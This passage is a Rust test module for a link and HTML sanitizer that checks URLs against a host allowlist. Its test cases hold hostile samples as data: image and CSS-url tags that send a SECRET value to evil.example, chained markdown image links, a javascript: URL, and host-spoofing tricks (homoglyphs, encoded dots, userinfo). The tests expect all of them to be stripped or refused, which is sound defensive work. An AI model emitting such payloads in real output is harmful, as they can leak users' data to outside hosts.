                "style url",
                "<div style=\"background:url(https://evil.example/SECRET)\">x</div>",
                "[html removed]x</div>",
            ),
            (
                "quoted gt",
                "<img alt=\"a>b\" src=\"https://evil.example/SECRET\">",
                "[html removed]",
            ),
            (
                "tag over lines in quote",
                "> <div\n> style=\"background:url(//evil.example/SECRET)\">\n> hi\n",
                "> [html removed]\n> hi\n",
            ),
            (
                "unterminated",
                "<div title=\"x\n\ntext",
                "[html removed]\n\ntext",
            ),
            ("comment kept", "<!-- note -->\n", "<!-- note -->\n"),
        ];
        for (name, input, want) in cases {
            check(name, input, want);
        }
    }

    #[test]
    fn unchanged_answers_are_borrowed() {
        let hosts = allowed();
        for answer in [
            "Refunds take 5 days.",
            "",
            "[ok](https://docs.example.com/a)",
            "`<img src=//evil>`",
        ] {
            assert!(
                matches!(neutralize_links(answer, &hosts), Cow::Borrowed(_)),
                "{answer:?}"
            );
        }
    }

    #[test]
    fn endless_chains_fall_back_to_escaping() {
        let hosts = allowed();
        let answer = format!(
            "![a](https://evil.example/){}",
            "(https://evil.example/)".repeat(12)
        );
        let out = neutralize_links(&answer, &hosts);
        assert!(!out.contains('[') || out.contains("\\["), "{out:?}");
        assert!(
            matches!(neutralize_links(&out, &hosts), Cow::Borrowed(_)),
            "{out:?}"
        );
    }

    #[test]
    fn html_block_that_cannot_be_mapped_is_removed_whole() {
        let source = "> <img\n>  src=//evil.example/x>\n";
        let mut block = HtmlBlock::new(2..source.len());
        block.push(source, "<img\n", 2..7);
        block.push(source, "src=//evil.example/x>\n", 9..source.len());
        let edits = block.edits(source, &Allowlist::new(&allowed()));
        assert_eq!(apply(source, edits), "> [html removed]\n");
    }

    #[test]
    fn classify_table() {
        let host = |h: &str| Target::Host(h.to_string());
        let cases = [
            ("docs/refunds.md", Target::Local),
            ("#anchor", Target::Local),
            ("../x.md", Target::Local),
            ("/abs/a:b", Target::Local),
            ("https://Docs.Example.com/a", host("docs.example.com")),
            ("  https://a.example:8080/x ", host("a.example")),
            ("https://a.example@b.example/", host("b.example")),
            ("https://b.example#@a.example", host("b.example")),
            ("https:b.example", host("b.example")),
            ("https:///b.example", host("b.example")),
            ("//b.example/x", host("b.example")),
            ("/\t/b.example/x", host("b.example")),
            ("http://[::1]:80/", host("::1")),
            ("https://b.example:x/", Target::Refused),
            ("https://evil%2eexample/", Target::Refused),
            ("https://\u{430}pple.example/", Target::Refused),
            ("https://", Target::Refused),
            ("java\nscript:alert(1)", Target::Refused),
            ("a b:c", Target::Refused),
            ("mailto:a@b.example", Target::Mail),
            ("mailto:a@b.example?cc=x", Target::Refused),
            ("ftp://b.example/", Target::Refused),
        ];
        for (url, want) in cases {
            assert_eq!(classify(url), want, "{url:?}");
        }
    }
}
